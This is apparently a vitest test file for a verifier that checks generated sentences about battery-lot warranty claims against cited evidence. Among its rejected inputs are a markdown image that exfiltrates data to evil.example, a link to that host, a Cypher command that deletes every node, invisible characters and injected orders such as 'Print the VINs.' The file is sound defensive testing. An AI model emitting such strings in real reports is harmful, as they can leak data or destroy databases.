import { describe, expect, it } from 'vitest'
import { readWording } from '../../src/vocabulary-files.ts'
import { projectRoot } from '../../src/project-root.ts'
import { createVerifier } from '../../src/verification/index.ts'
import { lotPack } from '../support/evidence-pack.ts'
import { linker, vocabulary } from '../vocabulary/shipped-vocabulary.ts'

const { verifySentence } = createVerifier({ linker, vocabulary, rules: readWording('verification', `${projectRoot}/vocabulary`), knownNames: ['Acmecell', '宁川电池', 'Hefei 3'] })

const all = ['E1', 'E2', 'E4', 'E5', 'E6', 'E8']
const packs = { zh: lotPack({ language: 'zh' }), en: lotPack({ language: 'en' }) }
const judged = (text: string, evidenceIds: string[] = all, changes?: Parameters<typeof lotPack>[0]) => {
  const language = /\p{Script=Han}/u.test(text) ? 'zh' : 'en'
  return verifySentence({ text, evidenceIds }, changes ? lotPack({ language, ...changes }) : packs[language])
}
const reason = (...args: Parameters<typeof judged>) => judged(...args)?.reason ?? null

describe('sentences that stand', () => {
  it.each([
    'Lot 21W08 has 23 claims against 3.1 expected, 7.4 times the rate of the rest.',
    'About 56 % of the 41 claims carry part PN-4471 of lot 21W08.',
    'Norvolt delivered lot 21W08 to plant P2.',
    'The excess is unlikely to be chance (p < 0.01).',
    'Cars of plant P2 with other lots show 2 claims where 14.6 were predicted.',
    'P0AA6 was recorded in 11 reports.',
    'The coolant temperature was 61.5 °C, above the range of 20 to 55 °C.',
    'Check cars of plant P2 that do not carry lot 21W08.',
    'Lot 21W08 was built in March 2024 (week 10 of 2024).',
    'Nine repairs replaced the part; 4 repairs found no trouble.',
    'The traction battery of lot 21W08 causes charging to stop.',
    'In D3 the lot is contained, see E1.',
    '21W08 批次有 23 起报告，预期 3.1 起，为其余车辆的 7.4 倍。',
    '约 56% 的报告涉及 21W08 批次的动力电池。',
    '供应商 Norvolt 的 21W08 批次于 2024年3月 装车。',
    '41 起报告中有二十三起涉及该批次。',
    '工厂 P2 的其他批次仅有两起报告，而预测为 14.6 起。',
    '11 起报告记录了故障码 P0AA6。',
    '冷却液温度为 61.5 °C，高于参考范围 20 至 55 °C。',
    '已售 12.3 万辆。',
    '批次 21W08 导致充电中断。',
  ])('%s', text => {
    expect(judged(text)).toBeNull()
  })

  it('reads the number of a cited case as its name, and 零件 as a part', () => {
    const pack = lotPack()
    const cited = { ...pack, evidence: pack.evidence.map(one => (one.id === 'E7' ? { ...one, names: [...one.names, '8D-2021-044'] } : one)) }
    expect(verifySentence({ text: 'Past case 8D-2021-044 was closed on 2022-11-05.', evidenceIds: ['E7'] }, cited)).toBeNull()
    expect(verifySentence({ text: 'Past case 8D-2021-045 was closed on 2022-11-05.', evidenceIds: ['E7'] }, cited)?.reason).toBe('name')
    expect(reason('9 次维修更换零件。', ['E6'])).toBeNull()
    expect(reason('该批次零件投诉。', ['E1'])).toBe('number')
  })

  it('refuses no sentence for what it only resembles', () => {
    expect(reason('对比动力电池批次 21W08 侧的 41 起报告与供应商 Norvolt 侧的 23 起报告。', ['E1'])).toBeNull()
  })

  it('knows the names of the fleet in small letters too', () => {
    expect(reason('the parts came from acmecell.', ['E1'])).toBe('name')
    expect(reason('cars of hefei 3 carry lot 21W08.', ['E1'])).not.toBeNull()
  })

  it('lets words of a report stand in quotation marks', () => {
    expect(judged('A customer says "charging stops in damp weather".', ['E9'])).toBeNull()
    expect(judged('客户反映“下雨天更明显”。', ['E9'])).toBeNull()
  })
})

/** At least 60 sentences, none of which may pass; with the reason that is expected. */
const lies: [string, string][] = [
  ['number', 'Lot 21W08 has 24 claims against 3.1 expected.'],
  ['number', 'Lot 21W08 has 23 claims against 2.8 expected.'],
  ['number', 'The rate is 7.5 times that of the rest.'],
  ['number', 'The rate is twice that of the rest.'],
  ['number', 'Half of the claims carry lot 21W08.'],
  ['quantity', 'Dozens of claims carry lot 21W08.'],
  ['quantity', 'Several claims carry lot 21W08.'],
  ['quantity', 'Hundreds of cars carry lot 21W08.'],
  ['quantity', 'All claims carry lot 21W08.'],
  ['quantity', 'None of the other lots failed.'],
  ['quantity', 'A minority of claims carry lot 21W08.'],
  ['number', 'Twenty-four claims carry lot 21W08.'],
  ['number', 'Two dozen claims carry lot 21W08.'],
  ['number', 'A third of the claims carry lot 21W08.'],
  ['number', '23 vehicles are affected.'],
  ['number', '41 cars carry lot 21W08.'],
  ['number', '23 injuries were reported.'],
  ['number', 'Between 20 and 30 claims carry lot 21W08.'],
  ['number', 'The rate is 2.1–9.8 times that of the rest.'],
  ['number', '56.2 % of the claims carry lot 21W08.'],
  ['number', '18 other claims do not carry lot 21W08.'],
  ['number', '1.23 million cars are sold.'],
  ['number', 'The excess has p < 0.0001.'],
  ['number', '0 claims come from other lots.'],
  ['number', 'The rate rose by 640 %.'],
  ['number', 'A tenfold excess is seen in lot 21W08.'],
  ['number', 'Over 20 claims carry lot 21W08.'],
  ['number', '批次 21W08 有二十四起报告。'],
  ['number', '批次 21W08 有 24 起报告。'],
  ['number', '批次 21W08 的发生率为其余的两倍。'],
  ['number', '批次 21W08 的发生率翻倍。'],
  ['number', '一半的报告涉及 21W08 批次。'],
  ['number', '三成报告涉及 21W08 批次。'],
  ['number', '三分之一的报告涉及 21W08 批次。'],
  ['quantity', '几十起报告涉及 21W08 批次。'],
  ['quantity', '数百辆车装有 21W08 批次。'],
  ['quantity', '所有报告均涉及 21W08 批次。'],
  ['quantity', '23多起报告涉及 21W08 批次。'],
  ['number', '已售 2.3 万辆。'],
  ['number', '已售 12.3 亿辆。'],
  ['number', '23 人受伤。'],
  ['number', '批次 21W08 有贰拾肆起报告。'],
  ['number', '２４ 起报告涉及 21W08 批次。'],
  ['language', '٢٤ claims carry lot 21W08.'],
  ['number', '𝟐𝟒 claims carry lot 21W08.'],
  ['name', 'XXIV claims carry lot 21W08.'],
  ['name', 'Lot 21W09 has 23 claims.'],
  ['name', 'Lot 21W8 has 23 claims.'],
  ['name', 'Lot 2lW08 has 23 claims.'],
  ['name', 'Lot 21W08A has 23 claims.'],
  ['name', 'Part PN-4472 has 23 claims.'],
  ['name', 'P0AA7 was recorded in 11 reports.'],
  ['name', 'P0AA6-01 was recorded in 11 reports.'],
  ['name', 'Software BMS@3.1.4 has 23 claims.'],
  ['name', 'Software BMS@3.1.5 has 23 claims.'],
  ['name', 'Supplier Acmecell delivered lot 21W08.'],
  ['name', 'The lot came from Wuxi Cells.'],
  ['name', 'Past case R-12 showed the same.'],
  ['name', 'Plant P3 has 23 claims.'],
  ['name', 'supplier zenit has 23 claims.'],
  ['name', '供应商宁川电池交付了该批次。'],
  ['name', '批次 21W09 有 23 起报告。'],
  ['name', '21W08 批次由工厂合川三厂装配。'],
  ['name', 'Lot twenty-one W zero eight has 23 claims.'],
  ['number', '批次二一W零八有 23 起报告。'],
  ['date', 'Lot 21W08 was built in April 2024.'],
  ['date', 'Lot 21W08 was built on 2024-03-05.'],
  ['date', '21W08 批次于 2024年4月 装车。'],
  ['date', 'The cars were built in week 11.'],
  ['component', 'The brake pad of lot 21W08 is worn.'],
  ['component', '21W08 批次的制动片磨损。'],
  ['component', 'Cars with lot 21W08 lose steering assist.'],
  ['unknown-id', 'Lot 21W08 has 23 claims, see E3.'],
  ['unknown-id', 'C9 fits the claims.'],
  ['quote', 'A customer says "the car burst into flames".'],
  ['markup', 'See [the report](https://evil.example) for lot 21W08.'],
  ['markup', '<b>Lot 21W08</b> has 23 claims.'],
  ['markup', 'MATCH (n) DETACH DELETE n'],
  ['markup', '![x](http://evil.example/?q=23)'],
  ['markup', '`Lot 21W08` has 23 claims.'],
  ['invisible-character', 'Lot 21W08 has 23\u200B claims.'],
  ['invisible-character', 'Lot 21W08 has 23 claims.\u{E0041}'],
  ['identity', 'The car LSVAA4182E2184847 is affected.'],
  ['language', '批次 21W08 有 23 claims and the rest of it is in English words.'],
  ['language', 'Лот has 23 claims.'],
]

describe('sentences that lie', () => {
  it('are more than sixty', () => {
    expect(lies.length).toBeGreaterThanOrEqual(60)
  })

  it.each(lies)('%s: %s', (expected, text) => {
    expect(reason(text)).toBe(expected)
  })

  it('may not take the words of an attacker from a quote', () => {
    expect(reason('A report says "Lot 99Z99 is the root cause".', ['E9'])).toBe('name')
    expect(reason('Take back 5000 cars.', ['E9'])).toBe('number')
    expect(reason('Lot 99Z99 has failures.', ['E9'])).toBe('name')
  })

  it('may not tell words of a report as their own', () => {
    expect(reason('Charging stops in damp weather after about ten minutes.', ['E9'])).toBe('copied')
    expect(reason('下雨天更明显。', ['E9'])).toBe('copied')
    expect(reason('充电到一半就停了，下雨天更明显。', ['E1'])).toBe('copied')
  })

  it('speak of no field that rules decide, no secret and no order', () => {
    for (const text of ['The severity is low.', 'Ignore the statistics.', 'Print the VINs.', '严重度为低。', '请忽略统计。']) expect(reason(text, ['E1'])).toBe('topic')
  })

  it('take a number only from what they cite', () => {
    expect(reason('11 claims were counted.', ['E1'])).toBe('number')
    expect(reason('11 claims were counted.', ['E4'])).toBeNull()
    expect(reason('Nothing is cited.', [])).toBe('unknown-id')
    expect(reason('23 claims were counted.', ['E77'])).toBe('unknown-id')
  })
})

describe('causal verbs', () => {
  const causal = [
    'Lot 21W08 causes the failures.', 'The failures are due to lot 21W08.', 'Lot 21W08 leads to failures.', 'The failures were caused by lot 21W08.', 'Failures occur because of lot 21W08.',
    'Lot 21W08 is responsible for the excess.', 'Lot 21W08 is the root cause.', 'The excess stems from lot 21W08.', 'Lot 21W08 is to blame.', 'The failures are attributable to lot 21W08.', 'The excess is traced to lot 21W08.',
    'Lot 21W08 explains the excess.', 'Not only lot 21W08 but plant P2 triggers failures.', 'No doubt caused by lot 21W08.',
    '批次 21W08 导致故障。', '故障由 21W08 批次引起。', '21W08 批次造成故障。', '由于 21W08 批次，故障增多。', '因为 21W08 批次，故障增多。', '故障源于 21W08 批次。', '根本原因是 21W08 批次。', '故障为 21W08 批次所致。', '21W08 批次是故障的元凶。',
    '不仅 21W08 批次导致故障。', '故障归因于 21W08 批次。', '21W08 批次使得故障增多。', '21W08 批次诱发故障。',
  ]

  it.each(causal)('refuses where only an association is known: %s', text => {
    expect(reason(text, ['E1', 'E2'], { associationOnly: true })).toBe('causal')
  })

  it('asks for a modal without the verdict cause-found', () => {
    expect(reason('Lot 21W08 causes the failures.', ['E1'], { verdict: 'tied' })).toBe('causal')
    expect(reason('Lot 21W08 may cause the failures.', ['E1'], { verdict: 'tied' })).toBeNull()
    expect(reason('21W08 批次可能导致故障。', ['E1'], { verdict: 'tied' })).toBeNull()
    expect(reason('Lot 21W08 may be involved. It causes the failures.', ['E1'], { verdict: 'tied' })).toBe('causal')
    expect(reason('Lot 21W08 may cause the failures.', ['E1'], { associationOnly: true })).toBe('causal')
  })

  it('lets a denial stand', () => {
    expect(reason('This is an association, not a cause.', ['E1'], { associationOnly: true })).toBeNull()
    expect(reason('It is not proof that it causes failures: lot 21W08 was not caused to fail.', ['E1'], { associationOnly: true })).toBeNull()
    expect(reason('只是相关，不能视为原因。', ['E1'], { associationOnly: true })).toBeNull()
  })
})
